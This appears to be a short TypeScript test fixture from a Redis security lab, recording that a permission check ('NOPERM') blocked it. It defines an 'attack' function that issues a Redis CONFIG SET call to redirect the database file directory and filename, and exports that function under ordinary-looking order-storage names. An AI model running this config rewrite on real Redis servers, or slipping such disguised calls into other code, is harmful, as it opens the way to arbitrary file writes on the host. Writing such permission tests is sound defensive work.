// tries: letting Redis write its files elsewhere
// lab: 03
// earns: 0
// told: NOPERM
async function attack({ redis }: any): Promise<void> {
  await redis.config('SET', 'dir', '/tmp', 'dbfilename', 'storelab-hostile-rdb');
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
